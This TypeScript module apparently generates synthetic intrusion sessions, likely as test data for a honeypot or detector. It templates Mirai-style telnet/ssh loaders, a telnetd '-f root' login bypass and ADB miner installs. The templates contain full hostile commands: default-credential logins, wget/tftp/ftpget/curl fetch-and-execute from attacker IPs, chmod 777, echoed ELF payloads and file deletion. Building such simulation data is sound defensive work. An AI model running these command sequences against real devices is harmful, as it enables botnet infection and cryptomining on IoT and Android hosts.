import type { Body } from '../../src/model/event.ts';
import { command, type Dice, fast, laidOut, login, type Made } from './variant.ts';

const arches = ['x86', 'mips', 'mpsl', 'arm', 'arm5', 'arm7', 'ppc', 'sh4', 'x86_64'];
const folders = ['/dev/shm', '/tmp', '/var/run', '/mnt', '/var/tmp', '/etc', '/'];

function octal(bytes: readonly number[]): string {
  return bytes.map((byte) => `\\${byte.toString(8).padStart(3, '0')}`).join('');
}

/** A Mirai-like loader: menu, applet, probe of folders, its host's processor, then one of four ways to bring the program. */
export function mirai(dice: Dice): Made {
  const applet = dice.pick([
    dice.word(5, 6, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'),
    dice.word(5, 9),
    'ECCHI',
    'MIRAI',
    'OWARI',
    dice.word(4, 8).replace(/^./, (c) => c.toUpperCase()),
  ]);
  const box = dice.pick(['/bin/busybox', 'busybox', '/usr/bin/busybox']);
  const host = dice.ip();
  const file = `${dice.pick(['', 'bins/', `${dice.word()}/`])}${dice.pick([`${dice.word()}.${dice.pick(arches)}`, `boatnet.${dice.pick(arches)}`, `${dice.pick(arches)}.urbotnetisass`, dice.word()])}`;
  const short = `.${dice.word(1, 2)}`;
  const menu = dice.shuffled(['enable', 'system', 'shell', 'sh', 'linuxshell']).slice(0, dice.int(2, 5));
  const ask = `${box} ${applet}`;
  const probe = dice.pick([
    [`cat /proc/mounts; ${ask}`],
    [`cat /proc/mounts`, ask],
    [`cd ${dice.pick(folders)}; cat .s || cp /bin/echo .s; ${ask}`],
    [`cat /proc/mounts; ${ask}`, `cd ${dice.pick(folders)}; cat ${short} || cp /bin/echo ${short}; ${ask}`],
  ]);
  const arch = dice.pick([
    [`tftp; wget; ${ask}`],
    [`dd bs=52 count=1 if=${short} || cat ${short} || while read i; do echo $i; done < ${short}`],
    [
      `tftp; wget; ${ask}`,
      `dd bs=52 count=1 if=${short} || cat ${short} || while read i; do echo $i; done < ${short}`,
      ask,
    ],
  ]);
  const elf = [0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 0, ...Array.from({ length: 20 }, () => dice.int(0, 255))];
  const bring = dice.pick([
    [
      `${box} wget http://${host}:${dice.int(80, 9_999)}/${file} -O - > ${short}; ${box} chmod 777 ${short}; ./${short} telnet.${dice.pick(arches)}`,
    ],
    [`${box} tftp -g -l ${short} -r ${file} ${host}; ${box} chmod 777 ${short}; ./${short} telnet`, ask],
    [
      `wget http://${host}/${file} -O - > ${short};chmod 777 ${short}; ./${short} ${dice.word()}; > ${short}; # ; ${ask}`,
    ],
    [
      `${box} echo -en '${elf.map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('')}' > ${short}; ${ask}`,
      `${box} echo -en '\\x01\\x02' >> ${short}`,
      `./${short}`,
    ],
    [`printf '${octal(elf)}' > ${short}`, `chmod +x ${short}; ./${short} telnet`],
    [
      `cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://${host}/${dice.word()}.sh; chmod 777 *.sh; sh ${dice.word()}.sh; tftp ${host} -c get t1.sh; sh t1.sh; tftp -r t2.sh -g ${host}; sh t2.sh; ftpget -v -u anonymous -p anonymous -P 21 ${host} f.sh f.sh; sh f.sh; rm -rf *.sh`,
    ],
  ]);
  const telnet = dice.chance(0.85);
  const lines = [
    ...(dice.chance(0.9) ? menu : ['sh']),
    ask,
    ...(dice.chance(0.7) ? probe : []),
    ...(dice.chance(0.6) ? arch : []),
    ...bring,
  ];
  return {
    label: 'T1',
    protocol: telnet ? 'telnet' : 'ssh',
    port: telnet ? dice.pick([23, 2323]) : 22,
    bodies: [
      login(dice.pick(['root', 'admin', 'default', 'support']), dice.word()),
      ...lines.map((line) => command(dice.loosely(line))),
    ],
    gaps: fast,
  };
}

export function telnetd(dice: Dice): Made {
  const body: Body = dice.chance(0.5)
    ? {
        kind: 'command',
        input: dice.pick(['-f root', '-froot', '-f  root']),
        detail: { exploit: 'CVE-2026-24061' },
      }
    : {
        kind: 'fingerprint',
        method: 'environment',
        value: `USER=${dice.pick(['-f root', '-f admin', '-froot'])}`,
      };
  const after = dice.chance(0.5) ? [command('id'), command('uname -a')] : [];
  return { label: 'T2', protocol: 'telnet', port: 23, bodies: [body, ...after], gaps: fast };
}

/** The UFO miner and its kin: the app may be called otherwise, the script too; `curl` for `wget`. */
export function adb(dice: Dice): Made {
  const host = dice.ip();
  const script = `${dice.word(1, 8)}.sh`;
  const known = dice.chance(0.5);
  const app = known ? 'com.ufo.miner' : `com.${dice.word()}.${dice.pick(['miner', 'app', 'test'])}`;
  const apk = known ? 'ufo.apk' : `${dice.word()}.apk`;
  const get = dice.pick([
    `busybox wget http://${host}/${script}`,
    `wget http://${host}:${dice.int(80, 9_000)}/${script}`,
    `curl http://${host}/${script} -o ${script}`,
    `/system/bin/busybox wget http://${host}/x/${script}`,
  ]);
  const fetched = laidOut(dice, [
    `cd /data/local/tmp${dice.pick(['', '/'])}`,
    ...(dice.chance(0.6) ? ['rm *'] : []),
    get,
    ...(dice.chance(0.5) ? [`chmod 777 ${script}`] : []),
    dice.pick([`sh ${script}`, `./${script}`, `nohup sh ${script} &`].slice(0, 2)),
  ]);
  const installed = [
    `pm path ${app}`,
    `pm install /data/local/tmp/${apk}`,
    `am start -n ${app}/com.example.test.MainActivity`,
    ...(dice.chance(0.4) ? ['ps | grep trinity', 'rm -rf /data/local/tmp/*'] : []),
  ];
  const bodies = dice.chance(0.5) ? fetched : installed.map((line) => command(dice.loosely(line)));
  return {
    label: 'A1',
    protocol: 'adb',
    port: 5555,
    bodies: dice.amid(bodies, [command('getprop ro.product.model'), command('id'), command('ls')], 0.2),
    gaps: fast,
  };
}

export const deviceVariants = [mirai, telnetd, adb];
